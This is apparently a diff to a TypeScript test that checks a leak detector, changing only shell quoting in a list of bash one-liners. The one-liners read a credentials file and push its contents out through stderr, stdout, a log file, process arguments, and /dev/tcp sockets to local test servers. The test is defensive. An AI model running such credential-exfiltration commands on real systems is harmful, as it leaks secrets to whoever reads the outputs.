@@ -207,13 +207,13 @@ t.test('a planted leak is found', possible, async (t) => {
   const env = { FILE: bed.credentialsFile, LOG: `${bed.dataDir}/logs/admin-audit.log` }
   const [here, there] = [bed.url, elsewhere.url].map((url) => `/dev/tcp/127.0.0.1/${new URL(url).port}`)
   for (const [script, place] of [
-    ['"$(<$FILE)"', 'write stderr'],
-    ['dd if=$FILE bs=7 status=none', 'write stdout'],
-    ['echo "$(<$FILE)" >$LOG.tmp; mv $LOG.tmp $LOG; rm $LOG', 'write logs/admin-audit.log.tmp'],
-    ['env "$(cat $FILE)" true', 'execve'],
-    ['true; /bin/true "$(cat $FILE)"', 'execve'],
-    [`exec 3<>${here}; cat $FILE >&3`, 'write homeserver'],
-    [`exec 3<>${there}; cat $FILE >&3`, /write TCP/],
+    ['"$(<"$FILE")"', 'write stderr'],
+    ['dd if="$FILE" bs=7 status=none', 'write stdout'],
+    ['echo "$(<"$FILE")" >"$LOG.tmp"; mv "$LOG.tmp" "$LOG"; rm "$LOG"', 'write logs/admin-audit.log.tmp'],
+    ['env "$(cat "$FILE")" true', 'execve'],
+    ['true; /bin/true "$(cat "$FILE")"', 'execve'],
+    [`exec 3<>${here}; cat "$FILE" >&3`, 'write homeserver'],
+    [`exec 3<>${there}; cat "$FILE" >&3`, /write TCP/],
   ] as [string, string | RegExp][]) {
     const options = { folder: bed.dataDir, url: bed.url, env }
     const places = found(kinds, (await traced(['bash', '-c', script], options)).trace)
